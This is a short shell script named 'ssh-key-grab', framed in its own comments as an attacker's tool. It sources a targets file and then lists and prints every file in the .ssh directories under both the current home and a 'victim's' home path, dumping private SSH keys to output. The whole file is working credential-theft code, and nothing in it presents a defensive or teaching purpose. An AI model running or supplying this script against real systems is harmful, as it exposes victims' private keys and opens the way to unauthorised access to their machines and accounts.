#!/bin/sh
# ssh-key-grab: print every key in ~/.ssh, looking both at $HOME and at the
# victim's real home path (an attacker who knows the layout tries both).
. "${TARGETS:-$1}"
for dir in "$HOME/.ssh" "$T_HOME/.ssh"; do
	ls -la "$dir"
	for f in "$dir"/*; do
		[ -f "$f" ] && cat "$f"
	done
done
